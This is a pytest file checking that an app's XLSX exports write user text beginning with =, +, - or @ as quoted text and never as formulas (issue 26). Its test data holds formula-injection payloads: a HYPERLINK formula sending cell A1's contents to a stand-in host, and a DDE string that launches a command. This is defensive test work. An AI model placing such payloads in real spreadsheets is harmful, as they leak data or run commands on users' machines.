"""No workbook the product writes turns a user's text into a formula (issue 26): names that begin
with =, +, - or @ are written as text (no <f> element) and read back unchanged, through the
catalogue export and its import, the entry template and the grid exports (app/xlsx.py)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
import python_calamine
from openpyxl import load_workbook
from sqlalchemy import Engine, update

from app.xlsx import Sheet, workbook
from db.models import Indikator, Massnahme
from tests.etl.test_template import make_template, rows_of
from zielcockpit.services.catalogue import export_workbook, import_workbook
from zielcockpit.services.evaluation import clear_cache

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
)
SQLITE_ONLY = pytest.mark.parametrize("backend", ["sqlite"])  # writing files, not SQL


def formulas(content: bytes) -> list[str]:
    """Every worksheet part that holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert parts
        return [n for n in parts if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]


def name_hostile(engine: Engine) -> dict[str, str]:
    """Indicator names of REGE-4 and the measure's title set to the hostile texts."""
    codes = {"REGE-4.1": HOSTILE[0], "REGE-9.2": HOSTILE[1]}
    with engine.begin() as conn:
        for code, name in codes.items():
            conn.execute(update(Indikator).where(Indikator.code == code).values(name=name))
        for code, title in (("REGE-4", HOSTILE[2]), ("REGE-3", HOSTILE[3])):
            conn.execute(update(Massnahme).where(Massnahme.code == code).values(title=title))
    clear_cache()
    return {**codes, "REGE-4": HOSTILE[2], "REGE-3": HOSTILE[3]}


@SQLITE_ONLY
def test_txt001_catalogue_export_keeps_text_and_round_trips(catalogue_engine: Engine) -> None:
    named = name_hostile(catalogue_engine)
    content = export_workbook(catalogue_engine, "2017")
    assert formulas(content) == []
    wb = load_workbook(io.BytesIO(content))
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert set(named.values()) <= texts  # exactly as typed
    quoted = [
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in HOSTILE
    ]
    assert quoted and all(c.data_type == "s" and c.quotePrefix for c in quoted)
    outcome = import_workbook(catalogue_engine, content, "katalog.xlsx")
    assert outcome.unchanged, [c.line() for c in outcome.changes]  # the round trip gives it back


@SQLITE_ONLY
def test_txt002_entry_template_keeps_text(demo_engine: Engine, tmp_path: Path) -> None:
    named = name_hostile(demo_engine)
    path = tmp_path / "vorlage.xlsx"
    assert make_template(demo_engine, path, oe="REGE") == 0
    content = path.read_bytes()
    assert formulas(content) == []
    rows = rows_of(path)
    sheet = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Erfassung")
    cells = sheet.to_python(skip_empty_area=False)
    for code in ("REGE-4.1", "REGE-9.2"):
        assert named[code] in cells[rows[code] - 1], code  # what the importer reads back


def test_txt003_grid_exports_keep_text() -> None:
    rows: list[list[Any]] = [["Code", "Name", "Wert"]]
    rows += [[f"X-{n}", text, n] for n, text in enumerate(HOSTILE)]
    content = workbook([Sheet("Export", rows)])
    assert formulas(content) == []
    read = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    back = read.get_sheet_by_name("Export").to_python()
    assert [r[1] for r in back[1:]] == list(HOSTILE)
